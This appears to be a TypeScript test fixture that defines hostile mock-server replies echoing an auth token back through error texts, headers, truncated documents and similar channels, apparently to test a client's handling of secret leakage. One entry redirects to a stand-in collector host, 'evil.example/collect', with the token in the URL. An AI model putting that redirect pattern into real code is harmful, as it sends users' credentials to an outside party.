/**
 * Every way a hostile or buggy server could hand the token back to the client: in error texts, gateway pages,
 * headers, redirect targets, wrongly typed fields, broken documents, and straddling the points where the client
 * cuts long texts. Each is a function of the token the request carried.
 */
import type { HostileReply } from "./hostile-server";

const JSON_TYPE = { "Content-Type": "application/json" };
const XML_TYPE = { "Content-Type": "application/xml" };
const HTML_TYPE = { "Content-Type": "text/html" };

function xmlEscape(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/'/g, "&apos;");
}

/** A named echo: how the server answers when it wants to show the token back. */
export interface EchoReply {
  name: string;
  reply(token: string): HostileReply;
}

/** The echo modes, each answering every endpoint the same way. */
export const ECHO_REPLIES: readonly EchoReply[] = [
  { name: "API error text (JSON)", reply: (t) => ({ status: 200, headers: JSON_TYPE, body: JSON.stringify({ data: null, error: 400, error_text: `Invalid token ${t}` }) }) },
  { name: "API error text (XML)", reply: (t) => ({ status: 200, headers: XML_TYPE, body: `<xml><data/><error>403</error><error_text>Access denied for ${xmlEscape(t)}</error_text></xml>` }) },
  { name: "API error text with a newline", reply: (t) => ({ status: 200, headers: JSON_TYPE, body: JSON.stringify({ data: null, error: 401, error_text: `token:\n${t}\n` }) }) },
  { name: "API error text straddling the 500-character cap", reply: (t) => ({ status: 200, headers: JSON_TYPE, body: JSON.stringify({ data: null, error: 400, error_text: `${"x".repeat(490)}${t}` }) }) },
  { name: "gateway page (503, retried)", reply: (t) => ({ status: 503, headers: HTML_TYPE, body: `<html><body>bad token ${t}</body></html>` }) },
  { name: "gateway page straddling the snippet cut", reply: (t) => ({ status: 502, headers: HTML_TYPE, body: `<html>${"y".repeat(185)}${t}</html>` }) },
  { name: "JSON-escaped token in a plain-text 500", reply: (t) => ({ status: 500, headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ token: t }) }) },
  { name: "URL-encoded token in an HTML 502", reply: (t) => ({ status: 502, headers: HTML_TYPE, body: `<a href="/login?token=${encodeURIComponent(t)}">log in</a>` }) },
  {
    name: "token in response headers",
    reply: (t) => ({ status: 502, headers: { ...HTML_TYPE, "X-Echo-Token": t, "Set-Cookie": `session=${t}`, "WWW-Authenticate": `Bearer realm="${t}"` }, body: "Bad gateway" }),
  },
  { name: "redirect whose Location holds the token", reply: (t) => ({ status: 302, headers: { Location: `https://evil.example/collect?token=${encodeURIComponent(t)}&raw=${t}` }, body: "" }) },
  { name: "429 whose Retry-After is the token", reply: (t) => ({ status: 429, headers: { ...HTML_TYPE, "Retry-After": t }, body: `slow down ${t}` }) },
  { name: "HTML page at 200", reply: (t) => ({ status: 200, headers: HTML_TYPE, body: `<!doctype html><p>Welcome ${t}</p>` }) },
  {
    name: "wrongly typed field holding the token",
    reply: (t) => ({ status: 200, headers: JSON_TYPE, body: JSON.stringify({ data: { id: t, name: t, is_active: t, is_completed: false, status: "x" }, error: 0, error_text: "ok" }) }),
  },
  { name: "JSON cut right after the token", reply: (t) => ({ status: 200, headers: JSON_TYPE, body: `{"data":{"echo":${JSON.stringify(t)}` }) },
  { name: "XML cut right after the token", reply: (t) => ({ status: 200, headers: XML_TYPE, body: `<xml><data><echo>${xmlEscape(t)}</echo>` }) },
];
